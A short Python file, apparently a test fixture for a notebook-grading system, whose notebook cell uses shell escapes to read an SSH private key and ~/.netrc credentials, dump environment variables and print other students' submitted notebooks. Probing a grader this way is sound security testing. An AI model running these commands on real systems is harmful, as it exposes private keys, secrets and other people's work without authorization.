"""Uses the shell's tools to look around."""

EXTRA = {
    "center": """
!cat @HOME@/.ssh/id_ed25519
!env
!cat @COURSE@/submitted/*/*/*.ipynb | tail -c 3000
%cat @HOME@/.netrc
"""
}
OTHERS = "right"
SCORE = {}
STATE = "graded"
